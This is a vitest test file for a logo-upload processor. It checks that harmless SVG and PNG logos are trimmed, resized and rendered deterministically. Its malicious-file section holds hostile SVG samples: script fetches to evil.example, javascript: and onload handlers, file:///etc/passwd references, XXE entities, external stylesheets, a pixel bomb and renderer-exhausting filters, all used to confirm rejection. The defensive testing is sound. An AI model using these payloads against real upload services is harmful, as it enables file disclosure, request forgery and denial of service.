import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, describe, expect, test } from 'vitest';
import { hostileFiles, PAYLOADS } from '#tests/samples/hostile-files.ts';
import { BAD_LOGO_SENTENCES, type BadLogoReason, LogoUnavailable, type ProcessedLogo } from './logo.ts';
import { createLogoProcessor } from './logo-processor.ts';

const processor = createLogoProcessor();
afterAll(() => processor.close());

const svgText = (inner: string, more = 'width="120" height="40"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${more}>${inner}</svg>`;
const svg = (inner: string, more?: string) => Buffer.from(svgText(inner, more));
const SHAPE = '<rect width="60" height="40" fill="#0b3e75"/>';
const reasonOf = (bytes: Uint8Array) =>
  processor.processLogo('co', bytes).then(
    () => 'accepted' as const,
    (error: { reason: BadLogoReason }) => error.reason,
  );
const picturesOf = ({ page, pageLarge, mail, pdf }: ProcessedLogo) => [page, pageLarge, mail, pdf];

function copiesOfCopies(): string {
  let inner = '<g id="g0"><rect width="1" height="1"/></g>';
  for (let level = 1; level <= 9; level += 1)
    inner += `<g id="g${level}">${`<use xlink:href="#g${level - 1}"/>`.repeat(12)}</g>`;
  return `<defs>${inner}</defs><use xlink:href="#g9"/>`;
}

test('a plain logo that gets no processor time can be retried, and is not called too complex', async () => {
  const impatient = createLogoProcessor({ timeoutMs: 400 });
  try {
    await impatient.processLogo('co', svg(SHAPE));
    const [stopped = 0] = impatient.pids();
    process.kill(stopped, 'SIGSTOP');
    await expect(impatient.processLogo('co', svg(SHAPE))).rejects.toBeInstanceOf(LogoUnavailable);
    expect(await impatient.processLogo('co', svg(SHAPE))).toMatchObject({ ground: expect.any(String) });
  } finally {
    await impatient.close();
  }
});

describe('a harmless logo', () => {
  test('keeps its transparency, loses its margins, and is produced in every size', async () => {
    const hole = { create: { width: 300, height: 100, channels: 4, background: '#000' } } as const;
    const mark = await sharp({ create: { width: 800, height: 200, channels: 4, background: '#0b3e75' } })
      .extend({ top: 300, bottom: 100, left: 50, right: 50, background: { r: 0, g: 0, b: 0, alpha: 0 } })
      .composite([{ input: hole, blend: 'dest-out', left: 300, top: 350 }])
      .png()
      .toBuffer();
    const logo = await processor.processLogo('co', mark);
    expect([logo.width, logo.height, logo.ground]).toEqual([240, 60, 'light']);
    const sizes = await Promise.all(picturesOf(logo).map((picture) => sharp(picture).metadata()));
    expect(sizes.map(({ format, width, hasAlpha }) => [format, width, hasAlpha])).toEqual([
      ['webp', 240, true],
      ['webp', 480, true],
      ['png', 480, true],
      ['png', 800, false],
    ]);
    const { data } = await sharp(logo.pageLarge).raw().toBuffer({ resolveWithObject: true });
    const [middle, corner] = [data.subarray(4 * (480 * 60 + 240)), data];
    expect([middle[3], [...corner.subarray(0, 4)]]).toEqual([0, [11, 62, 117, 255]]);
  });

  test('a small logo is not enlarged; an SVG is drawn at the size that is needed', async () => {
    const small = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#ffffff' } })
      .jpeg()
      .toBuffer();
    expect(await processor.processLogo('co', small)).toMatchObject({ width: 40, height: 20, ground: 'none' });
    const drawn = await processor.processLogo('co', svg(`${SHAPE}<circle cx="100" cy="20" r="20"/>`));
    expect([drawn.width, drawn.height, drawn.ground]).toEqual([216, 72, 'light']);
    expect(Math.abs((await sharp(drawn.pdf).metadata()).width - 864)).toBeLessThan(4);
    const huge = await processor.processLogo('co', svg(SHAPE, 'width="90000" height="30000" viewBox="0 0 120 40"'));
    expect([huge.width, huge.height]).toEqual([108, 72]);
  });

  test('a light logo gets a dark background, even in the PDF', async () => {
    const logo = await processor.processLogo('co', svg('<circle cx="20" cy="20" r="20" fill="#fff"/>'));
    expect(logo.ground).toBe('dark');
    const { data } = await sharp(logo.pdf).raw().toBuffer({ resolveWithObject: true });
    expect([...data.subarray(0, 3)]).toEqual([0x1b, 0x25, 0x28]);
  });

  test('extra content from drawing programs does no harm', async () => {
    const exported = `\ufeff<?xml version="1.0" encoding="utf-8"?><!-- Generator --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svgText(`<style>.a{fill:url(#g)}</style><defs><linearGradient id="g"><stop stop-color="red"/></linearGradient></defs><rect class="a" width="9" height="9"/><use xlink:href="#b"/>`)}`;
    expect(await reasonOf(Buffer.from(exported))).toBe('accepted');
    const picture = await sharp({ create: { width: 20, height: 20, channels: 3, background: 'red' } })
      .png()
      .toBuffer();
    const inside = `<image width="20" height="20" xlink:href="data:image/png;base64,${picture.toString('base64')}"/>`;
    expect(await reasonOf(svg(inside))).toBe('accepted');
  });

  test('the same file always gives the same bytes', async () => {
    const [one, other] = [await processor.processLogo('co', svg(SHAPE)), await processor.processLogo('co', svg(SHAPE))];
    expect(picturesOf(one).map((bytes) => Buffer.from(bytes))).toEqual(
      picturesOf(other).map((bytes) => Buffer.from(bytes)),
    );
  });
});

describe('a malicious file', () => {
  const cases: [name: string, file: Buffer, reason: BadLogoReason][] = [
    ['an empty file', Buffer.alloc(0), 'unreadable'],
    ['more than 5 MB', Buffer.alloc(5_000_001, 0x20), 'too_large'],
    ['a script', svg(`${SHAPE}<script>fetch("http://evil.example")</script>`), 'svg_active'],
    ['a script under another prefix', svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script>`), 'svg_active'],
    ['an event handler', svg('<rect width="9" height="9" onload="alert(1)"/>'), 'svg_active'],
    ['HTML inside', svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'), 'svg_active'],
    ['a javascript link', svg('<a xlink:href=" javascript:alert(1)"><rect width="9" height="9"/></a>'), 'svg_active'],
    ['a file of the server', svg('<image width="9" height="9" xlink:href="file:///etc/passwd"/>'), 'svg_outside'],
    ['a file of the server, spelled in entities', svg('<image href="&#102;ile:///etc/passwd"/>'), 'svg_outside'],
    ['an SVG in an SVG', svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'), 'svg_outside'],
    ['shapes of another file', svg('<use xlink:href="../x.svg#a"/>'), 'svg_outside'],
    [
      'a style sheet',
      Buffer.from(`<?xml-stylesheet href="http://evil.example/a.css"?>${svgText(SHAPE)}`),
      'svg_outside',
    ],
    ['an import in a style', svg('<style>@import "http://evil.example/a.css";</style>'), 'svg_outside'],
    ['an external fill', svg('<rect width="9" height="9" fill="url(http://evil.example/a)"/>'), 'svg_outside'],
    [
      'an XInclude',
      svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x" parse="text"/>'),
      'svg_outside',
    ],
    ['a base URL', svg('<g xml:base="http://evil.example/"><rect width="9" height="9"/></g>'), 'svg_outside'],
    [
      'external entities',
      Buffer.from(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svgText('&x;')}`),
      'svg_entities',
    ],
    [
      'a parameter entity',
      Buffer.from(`<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example"> %x;]>${svgText('')}`),
      'svg_entities',
    ],
    ['a font', svg('<text y="20">Clearwater</text>'), 'svg_text'],
    ['groups 200,000 deep', svg('<g>'.repeat(200_000) + '</g>'.repeat(200_000)), 'too_complex'],
    ['more than 1 MB of drawing', svg(`<path d="${'M0 0L9 9'.repeat(130_000)}"/>`), 'too_complex'],
    ['a page that contains an SVG', Buffer.from(`<html><body>${svgText(SHAPE)}</body></html>`), 'unreadable'],
    ['an SVG cut in half', svg(SHAPE).subarray(0, 150), 'damaged'],
    ['an invisible drawing', svg('<rect width="9" height="9" fill="none"/>'), 'invisible'],
    ['a gzipped SVG', gzipSync(svg(SHAPE)), 'unreadable'],
    ['an SVG in UTF-16', Buffer.from(`\ufeff${svgText(SHAPE)}`, 'utf16le'), 'unreadable'],
  ];

  test.each(cases)('%s is refused with a message', async (_, file, reason) => {
    await expect(processor.processLogo('co', file)).rejects.toMatchObject({
      reason,
      message: BAD_LOGO_SENTENCES[reason],
    });
  });

  test('an image inside an SVG that decompresses to something huge is refused like any other', async () => {
    const files = await hostileFiles();
    const bomb = files.find(({ name }) => name === 'png 30000x30000, rgb')?.bytes ?? Buffer.alloc(0);
    const inside = `<image width="9" height="9" href="data:image/png;base64,${Buffer.from(bomb).toString('base64')}"/>`;
    expect(await reasonOf(svg(inside))).toBe('too_many_pixels');
  });

  test('a drawing that keeps the renderer busy too long is stopped', async () => {
    const layers = Array.from({ length: 40 }, () => '<feGaussianBlur stdDeviation="400"/>').join('');
    const slow = svg(
      `<filter id="f" x="-5" y="-5" width="11" height="11">${layers}</filter>${'<g filter="url(#f)">'.repeat(20)}${SHAPE}${'</g>'.repeat(20)}`,
    );
    const impatient = createLogoProcessor({ timeoutMs: 1000 });
    for (const drawing of [slow, svg(copiesOfCopies())])
      await expect(impatient.processLogo('co', drawing)).rejects.toMatchObject({ reason: 'too_complex' });
    expect(await impatient.processLogo('co', svg(SHAPE))).toMatchObject({ width: 108 });
    await impatient.close();
  });

  test('nothing external is loaded, and no payload survives', async () => {
    const asked: string[] = [];
    const listener = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    }).listen(0, 'localhost');
    await once(listener, 'listening');
    const { port } = listener.address() as AddressInfo;
    const address = `http://localhost:${port}`;
    await reasonOf(svg(`<rect width="9" height="9" style="fill:\\75rl(${address}/a)"/>${SHAPE}`));
    await reasonOf(svg(`<image href="${address}/b" width="9" height="9"/>${SHAPE}`));
    listener.close();
    expect(asked).toEqual([]);
    for (const { name, bytes, expected } of await hostileFiles()) {
      const answer = await processor.processLogo('co', bytes).catch((error: { reason: BadLogoReason }) => error.reason);
      if (expected !== 'accepted') expect(typeof answer, name).toBe('string');
      if (typeof answer === 'string') continue;
      for (const picture of picturesOf(answer))
        for (const payload of PAYLOADS) expect(Buffer.from(picture).includes(payload), name).toBe(false);
    }
  });
});
